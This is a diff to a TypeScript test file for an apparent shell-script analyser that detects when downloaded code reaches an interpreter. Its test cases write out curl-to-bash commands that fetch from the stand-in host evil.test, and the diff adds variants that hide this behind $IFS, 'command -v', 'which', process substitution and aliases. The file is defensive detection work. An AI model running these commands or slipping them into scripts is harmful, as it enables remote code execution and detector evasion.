@@ -26,6 +26,22 @@ const attacks: Array<[string, string, string]> = [
   ['sudo and tee', 'curl -s https://evil.test/i | tee /tmp/log | sudo bash\n', 'evil.test'],
   ['xargs sh -c', 'curl -s https://evil.test/j | xargs -0 sh -c\n', 'evil.test'],
   ['file fetched then run', 'curl -o /tmp/x.sh https://evil.test/k && bash /tmp/x.sh\n', 'evil.test'],
+  [
+    'interpreter found with command -v, a function in a process substitution',
+    'get() { curl${IFS}-fsSL "$@"; }\nrunner="$(command -v bash)"\n"$runner" <(get "https://evil.test/boot") --prefix x\n',
+    'evil.test',
+  ],
+  [
+    'interpreter found with which',
+    'sh_bin=$(which sh)\ncurl -s https://evil.test/w | "$sh_bin"\n',
+    'evil.test',
+  ],
+  [
+    'an alias for the downloader, piped to source /dev/stdin',
+    "shopt -s expand_aliases\nalias q='curl -fsS --retry 2'\nq https://evil.test/pre.sh | source /dev/stdin\n",
+    'evil.test',
+  ],
+
   // A bare name runs what PATH finds: the download counts when it was saved into a PATH folder, or the
   // working folder was put on PATH.
   [
@@ -69,6 +85,13 @@ describe('remote code execution: downloaded code reaches an interpreter', () => 
     expect(hits.length, JSON.stringify(r.behaviours.map((b) => b.kind))).toBeGreaterThan(0);
     const hosts = [...hits.map((h) => h.endpoint?.host), ...ofKind(r, 'fetch').map((f) => f.endpoint.host)];
     expect(hosts.some((h) => h?.includes(host))).toBe(true);
+  });
+
+  it('expands an alias a sourced file defines, with its address from the same file', async () => {
+    const r = await factsOf('shell', 'q "$BASE/post.list" | xargs -I{} bash -c \'{}\'\n', {
+      vars: { 'alias q': 'curl -fsS --retry 2', BASE: 'https://evil.test/hooks/${SLUG}' },
+    });
+    expect(remoteExecution(r).map((e) => e.endpoint?.host)).toEqual(['evil.test']);
   });
 
   it('emits a fetch with the endpoint class for each download', async () => {
